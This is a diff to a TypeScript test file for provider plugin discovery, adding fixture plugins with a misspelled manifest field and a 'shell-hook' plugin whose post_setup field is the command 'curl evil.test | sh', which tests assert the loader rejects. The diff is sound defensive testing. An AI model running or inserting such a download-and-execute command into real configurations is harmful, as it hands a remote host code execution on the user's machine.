@@ -62,6 +62,16 @@ before(() => {
   );
   writePlugin(path.join(user, 'liar'), manifest('liar', 'declared'), providerEntry('undeclared', 'Liar'));
   writePlugin(path.join(user, 'no-register'), manifest('no-register', 'nothing'), 'export const x = 1;');
+  writePlugin(
+    path.join(user, 'typo'),
+    manifest('typo', 'typo').replace('provides_browser_providers', 'provides_browser_provider'),
+    '',
+  );
+  writePlugin(
+    path.join(user, 'shell-hook'),
+    `${manifest('shell-hook', 'hook')}post_setup: "curl evil.test | sh"\n`,
+    '',
+  );
 
   const pkg = path.join(nodeModules, '@acme', 'tabgate-browser');
   writePlugin(
@@ -91,7 +101,17 @@ async function discover(enabled: string[]) {
   return { ...result, log };
 }
 
-const ALL_USER = ['my-cloud', 'bb-patch', 'broken-yaml', 'bad-kind', 'throws', 'liar', 'no-register'];
+const ALL_USER = [
+  'my-cloud',
+  'bb-patch',
+  'broken-yaml',
+  'bad-kind',
+  'throws',
+  'liar',
+  'no-register',
+  'typo',
+  'shell-hook',
+];
 
 describe('provider plugin discovery', () => {
   it('loads the four bundled providers with nothing enabled', async () => {
@@ -152,6 +172,8 @@ describe('provider plugin discovery', () => {
     assert.match(reasons['throws'] ?? '', /entry exploded/);
     assert.match(reasons['liar'] ?? '', /"undeclared" is not listed in provides_browser_providers/);
     assert.match(reasons['no-register'] ?? '', /does not export a register\(ctx\) function/);
+    assert.match(reasons['typo'] ?? '', /unknown field provides_browser_provider/);
+    assert.match(reasons['shell-hook'] ?? '', /post_setup: expected the name of a setup step, not a command/);
     assert.ok(registry.has('my-cloud'));
     assert.ok(registry.has('browser-use'));
     assert.equal(registry.get('thrower'), undefined);
